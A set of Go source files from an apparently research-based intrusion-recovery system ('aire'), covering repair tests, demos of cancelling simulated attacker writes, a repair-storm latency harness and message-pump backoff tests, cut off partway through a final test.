		resp := tb.Call("a", wire.NewRequest("GET", "/get").WithForm("key", fmt.Sprintf("k%d", w)))
		if string(resp.Body) != fmt.Sprintf("%d", perWorker-1) {
			t.Fatalf("worker %d final value = %q", w, resp.Body)
		}
	}
}

// TestConcurrentRepairAndTraffic repairs while other goroutines keep
// sending traffic; the service lock makes repair atomic with respect to
// normal requests. Run under -race.
func TestConcurrentRepairAndTraffic(t *testing.T) {
	tb := NewTestbed()
	a := tb.Add(&KVApp{ServiceName: "a"}, core.DefaultConfig())
	attack := tb.MustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "hot", "val", "evil"))

	var wg sync.WaitGroup
	stop := make(chan struct{})
	wg.Add(1)
	go func() {
		defer wg.Done()
		i := 0
		for {
			select {
			case <-stop:
				return
			default:
			}
			i++
			tb.Call("a", wire.NewRequest("POST", "/put").WithForm("key", fmt.Sprintf("bg%d", i%7), "val", fmt.Sprint(i)))
			tb.Call("a", wire.NewRequest("GET", "/sum"))
		}
	}()

	if _, err := a.ApplyLocal(cancelAction(attack.Header[wire.HdrRequestID])); err != nil {
		t.Fatal(err)
	}
	close(stop)
	wg.Wait()

	if resp := tb.Call("a", wire.NewRequest("GET", "/get").WithForm("key", "hot")); resp.Status != 404 {
		t.Fatalf("attack value survived concurrent repair: %d %q", resp.Status, resp.Body)
	}
}
