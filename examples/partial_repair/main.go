// Command partial_repair demonstrates §7.2 of the paper: asynchronous
// repair under failure. First the corrupt-data-sync attack is repaired
// while spreadsheet B is offline — A and the directory recover immediately,
// B catches up when it returns. Then the same repair is attempted while B's
// service tokens are expired — B rejects the repair messages as
// unauthorized, the sending services hold them and notify their
// administrators, and a token refresh plus Retry completes recovery.
package main

import (
	"fmt"
	"log"

	"aire/internal/core"
	"aire/internal/harness"
	"aire/internal/wire"
)

func main() {
	offlineDemo()
	fmt.Println()
	expiredTokenDemo()
}

func offlineDemo() {
	fmt.Println("=== partial repair: spreadsheet B offline ===")
	s := harness.NewSheetScenario(true, core.DefaultConfig())
	s.RunLegitTraffic()
	if err := s.RunCorruptSyncAttack(); err != nil {
		log.Fatal(err)
	}
	fmt.Println("attack: mallory corrupts shared:plan on A; sync script spreads it to B")
	showCell(s, "sheetA")
	showCell(s, "sheetB")

	s.TB.SetOffline("sheetB", true)
	if err := s.Repair(); err != nil {
		log.Fatal(err)
	}
	fmt.Println("\nB goes offline; admin cancels the ACL mistake anyway:")
	showCell(s, "sheetA")
	fmt.Printf("  sheetB: offline; %d repair message(s) queued across services\n", s.TB.QueuedMessages())

	s.TB.SetOffline("sheetB", false)
	s.TB.Settle(20)
	fmt.Println("\nB comes back online; queued repair lands:")
	showCell(s, "sheetA")
	showCell(s, "sheetB")
}

func expiredTokenDemo() {
	fmt.Println("=== partial repair: expired credentials + retry ===")
	s := harness.NewSheetScenario(false, core.DefaultConfig())
	s.RunLegitTraffic()
	if err := s.RunLaxPermissionAttack(); err != nil {
		log.Fatal(err)
	}
	// Expire the tokens B uses to authorize repair messages.
	for _, u := range []string{harness.DirectorUser, harness.AttackerUser} {
		s.TB.MustCall("sheetB", wire.NewRequest("POST", "/token/expire").
			WithForm("user", u).WithHeader("X-Bootstrap", harness.BootstrapToken))
	}
	if err := s.Repair(); err != nil {
		log.Fatal(err)
	}
	fmt.Println("B rejects repair (expired tokens); held messages pending user re-login:")
	for _, ctrl := range []*core.Controller{s.Dir, s.A} {
		for _, p := range ctrl.Pending() {
			fmt.Printf("  %-12s -> %-7s %-7s held=%v err=%q\n",
				p.MsgID, p.Msg.Target, p.Msg.Kind, p.Held, truncate(p.LastErr, 40))
		}
	}

	fmt.Println("\nuser logs in again: tokens refreshed; application calls Retry:")
	for _, u := range []string{harness.DirectorUser, harness.AttackerUser} {
		s.TB.MustCall("sheetB", wire.NewRequest("POST", "/token/refresh").
			WithForm("user", u).WithHeader("X-Bootstrap", harness.BootstrapToken))
	}
	for _, ctrl := range []*core.Controller{s.Dir, s.A} {
		for _, p := range ctrl.Pending() {
			if p.Held {
				if err := ctrl.Retry(p.MsgID, nil); err != nil {
					log.Fatal(err)
				}
			}
		}
	}
	s.TB.Settle(20)
	if problems := s.Verify(); len(problems) > 0 {
		log.Fatalf("repair incomplete: %v", problems)
	}
	fmt.Println("repair complete on all services:")
	showBudget(s, "sheetA")
	showBudget(s, "sheetB")
}

func showCell(s *harness.SheetScenario, svc string) {
	resp := s.TB.Call(svc, wire.NewRequest("GET", "/get").WithForm("cell", "shared:plan"))
	fmt.Printf("  %s shared:plan = %q\n", svc, resp.Body)
}

func showBudget(s *harness.SheetScenario, svc string) {
	resp := s.TB.Call(svc, wire.NewRequest("GET", "/get").WithForm("cell", "budget"))
	fmt.Printf("  %s budget = %q (status %d)\n", svc, resp.Body, resp.Status)
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "..."
}
