package harness

import (
	"context"
	"fmt"
	"sort"
	"strings"
	"sync"
	"time"

	"aire/internal/core"
	"aire/internal/dsched"
	"aire/internal/simnet"
	"aire/internal/transport"
	"aire/internal/warp"
	"aire/internal/wire"
)

// This file is the repair-storm harness: a hub service whose outgoing
// queue holds a deep repair cascade (thousands of carrier messages fanning
// out to peer services) while user-visible mirror traffic — response-class
// replace_response messages flowing back toward clients — keeps arriving.
// It measures, per traffic class, how long each message waits between
// enqueue and delivery, so the admission-control regression tests can
// assert the paper-level property the pump's sender-side admission is for:
// a repair storm degrades *repair* latency, never mirror latency.
//
// Two modes share the scenario. Scheduled mode (StormConfig.Sched) runs
// the pump, its delivery workers, and the workload injector as tasks of
// the deterministic scheduler under seeded simnet faults — sojourns are
// measured in scheduler steps, and a seed reproduces its schedule exactly.
// Serial mode runs the production pump on real goroutines and measures
// wall-clock sojourns; it is the -race-friendly smoke variant.

// StormConfig configures one repair-storm run.
type StormConfig struct {
	// Seed drives the task schedule and the fault plan.
	Seed int64
	// Peers is how many cascade destination services the storm fans out to.
	Peers int
	// Backlog is how many cascade carriers are preloaded per peer.
	Backlog int
	// Responses is how many response-class (mirror-plane) messages are
	// injected, one per round, while the storm drains.
	Responses int
	// PeerCost is how many scheduler yield points one cascade delivery
	// consumes in scheduled mode — the deterministic analogue of a slow
	// peer. Serial mode sleeps PeerDelay instead.
	PeerCost  int
	PeerDelay time.Duration
	// Workers sizes the pump's delivery pool. Starvation needs fewer
	// workers than busy peers, so the default is 2.
	Workers int
	// BatchPolicy and Admission configure the pump under test.
	BatchPolicy core.BatchPolicy
	Admission   core.Admission
	// Sched selects deterministic-scheduler mode.
	Sched bool
	// Faults is the simnet fault plan (scheduled mode only).
	Faults simnet.FaultPlan
	// MaxRounds bounds the drain loop.
	MaxRounds int
}

func (cfg StormConfig) withDefaults() StormConfig {
	if cfg.Peers <= 0 {
		cfg.Peers = 4
	}
	if cfg.Backlog <= 0 {
		cfg.Backlog = 100
	}
	if cfg.Responses <= 0 {
		cfg.Responses = 10
	}
	if cfg.PeerCost <= 0 {
		cfg.PeerCost = 4
	}
	if cfg.PeerDelay <= 0 {
		cfg.PeerDelay = time.Millisecond
	}
	if cfg.Workers <= 0 {
		cfg.Workers = 2
	}
	if cfg.MaxRounds <= 0 {
		cfg.MaxRounds = 600
	}
	return cfg
}

// StormResult reports one run. Sojourns are scheduler steps in scheduled
// mode and microseconds in serial mode.
type StormResult struct {
	MirrorDelivered  int
	CascadeDelivered int
	// MirrorP50/P99/Max summarize mirror-plane (response-class) sojourns.
	MirrorP50, MirrorP99, MirrorMax int64
	// CascadeP50 summarizes cascade sojourns (for the degradation story).
	CascadeP50 int64
	// BacklogAtMirrorDrain is how many cascade messages were still queued
	// when the last mirror message delivered — positive means the mirror
	// plane finished ahead of the storm.
	BacklogAtMirrorDrain int
	// QueueDepth samples the hub's outgoing queue length once per round.
	QueueDepth []int
	// Rounds, SchedSteps, SchedTrace describe the run (scheduled mode).
	Rounds     int
	SchedSteps int
	SchedTrace []string
}

// stormPeer acknowledges every repair-plane delivery, charging a
// configurable cost (yield points or wall-clock sleep) per call — a peer
// that is up but slow.
type stormPeer struct {
	sched interface{ Yield() }
	cost  int
	delay time.Duration
}

func (p *stormPeer) HandleWire(from string, req wire.Request) wire.Response {
	if p.sched != nil {
		for i := 0; i < p.cost; i++ {
			p.sched.Yield()
		}
	} else if p.delay > 0 {
		time.Sleep(p.delay)
	}
	return wire.NewResponse(200, "ok")
}

// stormSink correlates EvMsgQueued/EvMsgDelivered by message ID and
// accumulates per-class sojourns. now() supplies the cost metric —
// scheduler steps or wall-clock microseconds.
type stormSink struct {
	now func() int64

	mu       sync.Mutex
	queued   map[string]int64
	mirror   []int64
	cascade  []int64
	enqueued int // cascade messages injected (for backlog accounting)
	drainAt  int // cascade deliveries seen when the mirror plane drained
	mirrorN  int // mirror messages expected
}

// inject records a message's enqueue instant under its ID.
func (s *stormSink) inject(id string) {
	s.mu.Lock()
	s.queued[id] = s.now()
	s.mu.Unlock()
}

func (s *stormSink) onEvent(e core.Event) {
	if e.Kind != core.EvMsgDelivered {
		return
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	at, ok := s.queued[e.Subject]
	if !ok {
		return
	}
	delete(s.queued, e.Subject)
	d := s.now() - at
	if strings.HasPrefix(e.Subject, "m-") {
		s.mirror = append(s.mirror, d)
		if len(s.mirror) == s.mirrorN {
			s.drainAt = s.enqueued - len(s.cascade)
		}
	} else {
		s.cascade = append(s.cascade, d)
	}
}

func percentile(xs []int64, p float64) int64 {
	if len(xs) == 0 {
		return 0
	}
	ys := append([]int64(nil), xs...)
	sort.Slice(ys, func(i, j int) bool { return ys[i] < ys[j] })
	i := int(p * float64(len(ys)-1))
	return ys[i]
}

// stormMsgs builds the preloaded cascade backlog: Backlog distinct replace
// carriers per peer, IDs "c-<peer>-<n>".
func stormMsgs(cfg StormConfig) []core.PendingMsg {
	var msgs []core.PendingMsg
	for p := 0; p < cfg.Peers; p++ {
		peer := fmt.Sprintf("peer%d", p)
		for i := 0; i < cfg.Backlog; i++ {
			msgs = append(msgs, core.PendingMsg{
				MsgID: fmt.Sprintf("c-%s-%d", peer, i),
				Msg: warp.OutMsg{
					Kind: warp.OutReplace, Target: peer,
					RemoteReqID: fmt.Sprintf("%s-req-%d", peer, i),
					Req:         wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "v"),
				},
			})
		}
	}
	return msgs
}

// stormResponse builds the n-th mirror-plane message, ID "m-<n>".
func stormResponse(n int) core.PendingMsg {
	return core.PendingMsg{
		MsgID: fmt.Sprintf("m-%d", n),
		Msg: warp.OutMsg{
			Kind:        warp.OutReplaceResponse,
			NotifierURL: transport.NotifierURL("client"),
			RespID:      fmt.Sprintf("resp-%d", n),
			LocalReqID:  fmt.Sprintf("lreq-%d", n),
			Resp:        wire.NewResponse(200, "fixed"),
		},
	}
}

// RunStorm executes one repair-storm scenario and returns its measurements.
func RunStorm(cfg StormConfig) (*StormResult, error) {
	cfg = cfg.withDefaults()
	if cfg.Sched {
		return runStormScheduled(cfg)
	}
	return runStormSerial(cfg)
}

func runStormScheduled(cfg StormConfig) (*StormResult, error) {
	bus := transport.NewBus()
	clock := simnet.NewClock(simClockStart)
	sim := simnet.New(bus, cfg.Seed*2+1, cfg.Faults)
	sd := dsched.New(cfg.Seed*3+2, clock)

	ccfg := core.DefaultConfig()
	ccfg.Sched = sd
	ccfg.Clock = clock.Now
	ccfg.PumpInterval = simPulseStep
	ccfg.Backoff = core.Backoff{Base: simBackoffBase, Max: simBackoffMax, Factor: 2}
	ccfg.PumpWorkers = cfg.Workers
	ccfg.BatchPolicy = cfg.BatchPolicy
	ccfg.Admission = cfg.Admission
	hub := core.NewController(&KVApp{ServiceName: "hub"}, sim, ccfg)
	bus.Register("hub", hub)
	for p := 0; p < cfg.Peers; p++ {
		bus.Register(fmt.Sprintf("peer%d", p), &stormPeer{sched: sd, cost: cfg.PeerCost})
	}
	bus.Register("client", &stormPeer{}) // the notifier host: fast

	sink := &stormSink{
		now:     func() int64 { return int64(sd.Steps()) },
		queued:  map[string]int64{},
		mirrorN: cfg.Responses,
	}
	hub.Subscribe(sink.onEvent)

	res := &StormResult{}
	ctx, cancel := context.WithCancel(context.Background())
	if err := hub.StartPump(ctx); err != nil {
		cancel()
		return nil, err
	}

	// Preload the storm, then inject one mirror message per round while
	// the pump drains, exactly like the sim driver: drain the scheduler,
	// land delayed calls, advance virtual time.
	cascade := stormMsgs(cfg)
	for _, m := range cascade {
		sink.inject(m.MsgID)
	}
	sink.mu.Lock()
	sink.enqueued = len(cascade)
	sink.mu.Unlock()
	hub.ImportQueue(cascade)

	pulse := func() {
		sd.RunUntilIdle()
		sim.Tick()
		sd.RunUntilIdle()
		clock.Advance(simPulseStep)
		res.QueueDepth = append(res.QueueDepth, hub.QueueLen())
		res.Rounds++
	}
	for i := 0; i < cfg.Responses; i++ {
		m := stormResponse(i)
		sink.inject(m.MsgID)
		hub.ImportQueue([]core.PendingMsg{m})
		pulse()
	}

	// Drain until everything delivered or nothing moves anymore.
	last := int64(-1)
	for res.Rounds < cfg.MaxRounds && hub.QueueLen() > 0 {
		pulse()
		cur := hub.Stats().MsgsDelivered + hub.Stats().MsgsFailed + int64(sim.HeldCount())
		if cur == last {
			// Backed-off peers: elapse the retry windows.
			clock.Advance(simBackoffMax)
		}
		last = cur
	}
	stalled := hub.QueueLen()

	cancel()
	sd.RunUntilIdle()
	if live := sd.Live(); live != 0 {
		return nil, fmt.Errorf("storm: %d scheduler tasks still live after shutdown (seed %d)", live, cfg.Seed)
	}
	if stalled > 0 {
		return nil, fmt.Errorf("storm: %d messages still queued after %d rounds (seed %d)", stalled, res.Rounds, cfg.Seed)
	}

	res.SchedSteps = sd.Steps()
	res.SchedTrace = sd.Trace()
	sink.finish(res)
	return res, nil
}

func runStormSerial(cfg StormConfig) (*StormResult, error) {
	bus := transport.NewBus()
	ccfg := core.DefaultConfig()
	ccfg.PumpInterval = time.Millisecond
	ccfg.PumpWorkers = cfg.Workers
	ccfg.BatchPolicy = cfg.BatchPolicy
	ccfg.Admission = cfg.Admission
	hub := core.NewController(&KVApp{ServiceName: "hub"}, bus, ccfg)
	bus.Register("hub", hub)
	for p := 0; p < cfg.Peers; p++ {
		bus.Register(fmt.Sprintf("peer%d", p), &stormPeer{delay: cfg.PeerDelay})
	}
	bus.Register("client", &stormPeer{})

	start := time.Now()
	sink := &stormSink{
		now:     func() int64 { return time.Since(start).Microseconds() },
		queued:  map[string]int64{},
		mirrorN: cfg.Responses,
	}
	hub.Subscribe(sink.onEvent)

	res := &StormResult{}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	if err := hub.StartPump(ctx); err != nil {
		return nil, err
	}
	defer hub.StopPump()

	cascade := stormMsgs(cfg)
	for _, m := range cascade {
		sink.inject(m.MsgID)
	}
	sink.mu.Lock()
	sink.enqueued = len(cascade)
	sink.mu.Unlock()
	hub.ImportQueue(cascade)

	for i := 0; i < cfg.Responses; i++ {
		m := stormResponse(i)
		sink.inject(m.MsgID)
		hub.ImportQueue([]core.PendingMsg{m})
		res.QueueDepth = append(res.QueueDepth, hub.QueueLen())
		res.Rounds++
		time.Sleep(2 * time.Millisecond)
	}
	if !hub.WaitQueueEmpty(60 * time.Second) {
		return nil, fmt.Errorf("storm: %d messages still queued after 60s", hub.QueueLen())
	}
	sink.finish(res)
	return res, nil
}

// finish folds the sink's accumulated sojourns into the result.
func (s *stormSink) finish(res *StormResult) {
	s.mu.Lock()
	defer s.mu.Unlock()
	res.MirrorDelivered = len(s.mirror)
	res.CascadeDelivered = len(s.cascade)
	res.MirrorP50 = percentile(s.mirror, 0.50)
	res.MirrorP99 = percentile(s.mirror, 0.99)
	res.MirrorMax = percentile(s.mirror, 1.0)
	res.CascadeP50 = percentile(s.cascade, 0.50)
	res.BacklogAtMirrorDrain = s.drainAt
}
