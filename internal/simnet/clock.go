package simnet

import (
	"sync"
	"time"
)

// Clock is a manually-advanced time source. Simulations hand Clock.Now to
// core.Config.Clock so backoff schedules elapse exactly when the simulation
// decides they do — wall time never enters a run, which is half of what
// makes a run reproducible from its seed (the other half is Net's seeded
// fault schedule).
type Clock struct {
	mu  sync.Mutex
	now time.Time
}

// NewClock returns a clock pinned at the given unix time.
func NewClock(startUnix int64) *Clock {
	return &Clock{now: time.Unix(startUnix, 0)}
}

// Now reads the simulated time.
func (c *Clock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

// Advance moves the simulated time forward by d.
func (c *Clock) Advance(d time.Duration) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.now = c.now.Add(d)
}
