// Command browser_client demonstrates repair reaching an end-user client
// that cannot accept inbound connections — the browser-shaped gap the
// paper's prototype leaves open (§2.3).
//
// The client tags its requests with a poll:// notifier URL; when the server
// repairs a response the client saw, the replace_response token is parked
// in a mailbox the client polls, and the client updates its local copy.
// The client also initiates repair of its own past request (fixing a typo
// with replace, per §2's user-mistake use case).
package main

import (
	"fmt"
	"log"

	"aire"
	"aire/internal/client"
	"aire/internal/harness"
	"aire/internal/wire"
)

func main() {
	bus := aire.NewBus()
	store := aire.NewService(&harness.KVApp{ServiceName: "store"}, bus)
	bus.Register("store", store)

	cl := client.New("laptop-1", bus)
	cl.OnRepair = func(old client.Sent, newResp wire.Response) {
		fmt.Printf("   client: my copy of %q was repaired: %q -> %q\n",
			old.Req.Form["key"], old.Resp.Body, newResp.Body)
	}

	seed := func(key, val string) wire.Response {
		resp, err := bus.Call("", "store", aire.NewRequest("POST", "/put").WithForm("key", key, "val", val))
		if err != nil {
			log.Fatal(err)
		}
		return resp
	}

	fmt.Println("1. the store holds x=launch-friday; an attacker overwrites it:")
	seed("x", "launch-friday")
	attack := seed("x", "HACKED")

	fmt.Println("2. the client reads x through its Aire-aware library:")
	read, err := cl.Call("store", aire.NewRequest("GET", "/get").WithForm("key", "x"))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("   client sees: %q\n", read.Body)

	fmt.Println("3. the store cancels the attack; the client polls and is corrected:")
	if _, err := store.ApplyLocal(aire.Cancel(attack.Header[aire.HdrRequestID])); err != nil {
		log.Fatal(err)
	}
	store.Flush()
	n, err := cl.Poll("store")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("   applied %d response repair(s); history now shows %q\n", n, cl.History()[0].Resp.Body)

	fmt.Println("4. the client fixes its own typo with a client-initiated replace:")
	typo, _ := cl.Call("store", aire.NewRequest("POST", "/put").WithForm("key", "note", "val", "meeting at 9an"))
	_ = typo
	sent := cl.History()[len(cl.History())-1]
	if _, err := cl.RepairReplace(sent, aire.NewRequest("POST", "/put").WithForm("key", "note", "val", "meeting at 9am"), nil); err != nil {
		log.Fatal(err)
	}
	fixed, _ := bus.Call("", "store", aire.NewRequest("GET", "/get").WithForm("key", "note"))
	fmt.Printf("   store now holds: %q\n", fixed.Body)
}
