package core

import (
	"context"
	"fmt"
	"sync"
	"testing"
	"time"

	"aire/internal/transport"
	"aire/internal/warp"
	"aire/internal/wire"
)

// fakeClock is a deterministic, manually-advanced time source for backoff
// tests.
type fakeClock struct {
	mu  sync.Mutex
	now time.Time
}

func newFakeClock() *fakeClock { return &fakeClock{now: time.Unix(1000, 0)} }

func (fc *fakeClock) Now() time.Time {
	fc.mu.Lock()
	defer fc.mu.Unlock()
	return fc.now
}

func (fc *fakeClock) Advance(d time.Duration) {
	fc.mu.Lock()
	defer fc.mu.Unlock()
	fc.now = fc.now.Add(d)
}

// orderRecorder is a bus peer that records the order repair calls arrive in.
type orderRecorder struct {
	mu   sync.Mutex
	seqs []string
}

func (r *orderRecorder) HandleWire(from string, req wire.Request) wire.Response {
	if req.Path != "/aire/repair" {
		return wire.NewResponse(404, "not a repair call")
	}
	in, err := wire.DecodeRequest(req.Body)
	if err != nil {
		return wire.NewResponse(400, err.Error())
	}
	r.mu.Lock()
	r.seqs = append(r.seqs, in.Form["seq"])
	r.mu.Unlock()
	return wire.NewResponse(200, "ok")
}

func (r *orderRecorder) recorded() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.seqs...)
}

// createMsg builds an uncollapsible repair message (creates are never
// collapsed) carrying a sequence marker for order checks.
func createMsg(target string, seq int) warp.OutMsg {
	return warp.OutMsg{
		Kind:   warp.OutCreate,
		Target: target,
		Req:    wire.NewRequest("POST", "/put").WithForm("seq", fmt.Sprint(seq)),
	}
}

// TestPumpPerPeerFIFO: the pump delivers to distinct peers concurrently but
// must preserve FIFO order within each peer — the paper's per-service
// ordering requirement.
func TestPumpPerPeerFIFO(t *testing.T) {
	const perPeer = 25
	tb := newTestbed()
	cfg := DefaultConfig()
	cfg.PumpWorkers = 8
	cfg.BatchSize = 3 // force several batches per peer
	cfg.PumpInterval = time.Millisecond
	hub := tb.add(&kvApp{name: "hub"}, cfg)

	recorders := map[string]*orderRecorder{}
	for _, peer := range []string{"p1", "p2", "p3", "p4"} {
		rec := &orderRecorder{}
		recorders[peer] = rec
		tb.bus.Register(peer, rec)
	}
	// Interleave messages across peers so batches are claimed alternately.
	var msgs []warp.OutMsg
	for seq := 0; seq < perPeer; seq++ {
		for peer := range recorders {
			msgs = append(msgs, createMsg(peer, seq))
		}
	}
	hub.enqueue(msgs, traceCtx{})

	if err := hub.StartPump(context.Background()); err != nil {
		t.Fatal(err)
	}
	defer hub.StopPump()
	if !hub.WaitQueueEmpty(5 * time.Second) {
		t.Fatalf("queue not drained: %d left", hub.QueueLen())
	}

	for peer, rec := range recorders {
		got := rec.recorded()
		if len(got) != perPeer {
			t.Fatalf("%s received %d messages, want %d", peer, len(got), perPeer)
		}
		for i, seq := range got {
			if seq != fmt.Sprint(i) {
				t.Fatalf("%s out of order at %d: got seq %s (full: %v)", peer, i, seq, got)
			}
		}
	}
}

// TestBackoffSchedule checks Backoff.Delay's exponential shape and cap.
func TestBackoffSchedule(t *testing.T) {
	b := Backoff{Base: 100 * time.Millisecond, Max: 500 * time.Millisecond, Factor: 2}
	want := []time.Duration{0, 100, 200, 400, 500, 500} // ms, index = failures
	for n, ms := range want {
		if got := b.Delay(n); got != ms*time.Millisecond {
			t.Errorf("Delay(%d) = %v, want %v", n, got, ms*time.Millisecond)
		}
	}
	if (Backoff{}).Enabled() {
		t.Error("zero Backoff must be disabled")
	}
	if d := (Backoff{Base: time.Second}).Delay(3); d != 4*time.Second {
		t.Errorf("default factor should be 2: got %v", d)
	}
}

// TestBackoffGatesDeliveryAttempts: with backoff enabled and a fake clock,
// delivery attempts to an unreachable peer follow the exponential schedule
// exactly, messages are never parked, and the administrator is notified
// once per outage.
func TestBackoffGatesDeliveryAttempts(t *testing.T) {
	fc := newFakeClock()
	cfg := DefaultConfig()
	cfg.Backoff = Backoff{Base: 100 * time.Millisecond, Max: time.Second, Factor: 2}
	cfg.Clock = fc.Now

	tb := newTestbed()
	a := tb.add(&kvApp{name: "a", mirror: "b"}, cfg)
	tb.add(&kvApp{name: "b"}, DefaultConfig())

	attack := tb.call("a", put("x", "evil"))
	tb.settle(10)
	tb.bus.SetOffline("b", true)
	if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}

	attempts := func() int64 { _, drops := tb.bus.Stats(); return drops }
	base := attempts()

	a.Flush() // attempt 1 fails; peer backs off 100ms
	if got := attempts() - base; got != 1 {
		t.Fatalf("first flush made %d attempts, want 1", got)
	}
	a.Flush() // clock unchanged: gated, no attempt
	a.Flush()
	if got := attempts() - base; got != 1 {
		t.Fatalf("backoff did not gate retries: %d attempts", got)
	}

	fc.Advance(100 * time.Millisecond)
	a.Flush() // attempt 2; delay doubles to 200ms
	if got := attempts() - base; got != 2 {
		t.Fatalf("after Base elapsed: %d attempts, want 2", got)
	}
	fc.Advance(100 * time.Millisecond)
	a.Flush() // only 100ms of the 200ms delay elapsed: gated
	if got := attempts() - base; got != 2 {
		t.Fatalf("doubled delay not respected: %d attempts", got)
	}
	fc.Advance(100 * time.Millisecond)
	a.Flush() // attempt 3
	if got := attempts() - base; got != 3 {
		t.Fatalf("after doubled delay: %d attempts, want 3", got)
	}

	// Backoff replaces park-after-MaxAttempts: the message is still live,
	// and the outage is charged to the peer, not to the message's own
	// Attempts budget (which is reserved for message-level failures).
	pend := a.Pending()
	if len(pend) != 1 || pend[0].Held {
		t.Fatalf("message must stay live under backoff: %+v", pend)
	}
	if pend[0].Attempts != 0 {
		t.Fatalf("peer outage must not consume the message's Attempts budget: %+v", pend[0])
	}
	// The administrator was notified of the outage exactly once.
	unreachable := 0
	for _, n := range a.Notifications() {
		if n.Kind == "unreachable" && n.Target == "b" {
			unreachable++
		}
	}
	if unreachable != 1 {
		t.Fatalf("unreachable notifications = %d, want 1", unreachable)
	}

	// Recovery: peer returns, next scheduled attempt delivers and resets
	// the peer's backoff state.
	tb.bus.SetOffline("b", false)
	fc.Advance(time.Second)
	a.Flush()
	tb.settle(10)
	if a.QueueLen() != 0 {
		t.Fatalf("queue should drain after recovery: %d left", a.QueueLen())
	}
	if resp := tb.call("b", get("x")); resp.Status != 404 {
		t.Fatalf("b not repaired: %d %s", resp.Status, resp.Body)
	}
}

// TestBatchChargesAllMessagesOnUnreachable: with backoff disabled (legacy
// mode), one failed batch charges an attempt to every claimed message for
// that peer, so they reach MaxAttempts — and park — together, exactly as
// when each was attempted individually, without paying one timeout each.
func TestBatchChargesAllMessagesOnUnreachable(t *testing.T) {
	tb := newTestbed()
	a := tb.add(&kvApp{name: "a", mirror: "b"}, DefaultConfig())
	tb.add(&kvApp{name: "b"}, DefaultConfig())

	var ids []string
	for i := 0; i < 3; i++ {
		resp := tb.call("a", put(fmt.Sprintf("k%d", i), "evil"))
		ids = append(ids, resp.Header[wire.HdrRequestID])
	}
	tb.settle(10)
	tb.bus.SetOffline("b", true)
	for _, id := range ids {
		if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: id}); err != nil {
			t.Fatal(err)
		}
	}
	if n := a.QueueLen(); n != 3 {
		t.Fatalf("queue = %d, want 3", n)
	}
	for i := 0; i < DefaultConfig().MaxAttempts; i++ {
		a.Flush()
	}
	for _, p := range a.Pending() {
		if !p.Held || p.Attempts != DefaultConfig().MaxAttempts {
			t.Fatalf("all batch messages should park together: %+v", p)
		}
	}
	// One bus-level attempt per pass (batch aborts on first failure), not
	// one per message.
	_, drops := tb.bus.Stats()
	if drops != int64(DefaultConfig().MaxAttempts) {
		t.Fatalf("bus saw %d failed calls, want %d (one per pass)", drops, DefaultConfig().MaxAttempts)
	}
}

// poisonPeer is a bus peer that 500s repair calls carrying seq=="poison"
// and accepts everything else.
type poisonPeer struct {
	orderRecorder
}

func (p *poisonPeer) HandleWire(from string, req wire.Request) wire.Response {
	if in, err := wire.DecodeRequest(req.Body); err == nil && in.Form["seq"] == "poison" {
		return wire.NewResponse(500, "handler exploded")
	}
	return p.orderRecorder.HandleWire(from, req)
}

// TestMessageSpecificFailureDoesNotBlockBatch: a reachable peer that keeps
// failing one particular message must not stall the rest of its queue. The
// poisoned message is charged alone (and eventually parked for Retry); the
// messages queued behind it still deliver, and the peer is not treated as
// unreachable (no backoff, no batch-wide attempt charges).
func TestMessageSpecificFailureDoesNotBlockBatch(t *testing.T) {
	tb := newTestbed()
	cfg := DefaultConfig()
	cfg.Backoff = Backoff{Base: time.Millisecond} // backoff enabled: must not trigger
	hub := tb.add(&kvApp{name: "hub"}, cfg)
	peer := &poisonPeer{}
	tb.bus.Register("sink", peer)

	hub.enqueue([]warp.OutMsg{
		{Kind: warp.OutCreate, Target: "sink", Req: wire.NewRequest("POST", "/put").WithForm("seq", "poison")},
		createMsg("sink", 1),
		createMsg("sink", 2),
	}, traceCtx{})

	for i := 0; i < DefaultConfig().MaxAttempts; i++ {
		hub.Flush()
	}
	if got := peer.recorded(); len(got) != 2 || got[0] != "1" || got[1] != "2" {
		t.Fatalf("messages behind the poisoned one did not deliver in order: %v", got)
	}
	pend := hub.Pending()
	if len(pend) != 1 || !pend[0].Held || pend[0].Attempts != DefaultConfig().MaxAttempts {
		t.Fatalf("poisoned message should be parked alone after MaxAttempts: %+v", pend)
	}
	// The peer answered every time, so it must not be backing off: a fresh
	// message delivers on the next pass with no clock advance.
	hub.enqueue([]warp.OutMsg{createMsg("sink", 3)}, traceCtx{})
	hub.Flush()
	if got := peer.recorded(); len(got) != 3 || got[2] != "3" {
		t.Fatalf("reachable peer wrongly backed off after message-level failures: %v", got)
	}
}

// TestPumpRestartsAfterContextCancel: cancelling the pump's context is a
// full shutdown — PumpRunning turns false and StartPump works again.
func TestPumpRestartsAfterContextCancel(t *testing.T) {
	tb := newTestbed()
	hub := tb.add(&kvApp{name: "hub"}, DefaultConfig())
	ctx, cancel := context.WithCancel(context.Background())
	if err := hub.StartPump(ctx); err != nil {
		t.Fatal(err)
	}
	// The pump's done channel closes only after the lifecycle state is
	// detached, so waiting on it (instead of sleep-polling PumpRunning) is
	// deterministic.
	hub.pumpMu.Lock()
	done := hub.pumpDone
	hub.pumpMu.Unlock()
	cancel()
	select {
	case <-done:
	case <-time.After(2 * time.Second):
		t.Fatal("pump did not shut down after context cancel")
	}
	if hub.PumpRunning() {
		t.Fatal("pump still reported running after context cancel")
	}
	if err := hub.StartPump(context.Background()); err != nil {
		t.Fatalf("StartPump after context cancel: %v", err)
	}
	hub.StopPump()
}

// TestPumpReusesDeliverStack ensures the pump path and the legacy handlers
// agree on replace_response peer keys (notifier URL, not Target).
func TestPeerKey(t *testing.T) {
	cases := []struct {
		msg  warp.OutMsg
		want string
	}{
		{warp.OutMsg{Kind: warp.OutDelete, Target: "b"}, "b"},
		{warp.OutMsg{Kind: warp.OutCreate, Target: "c"}, "c"},
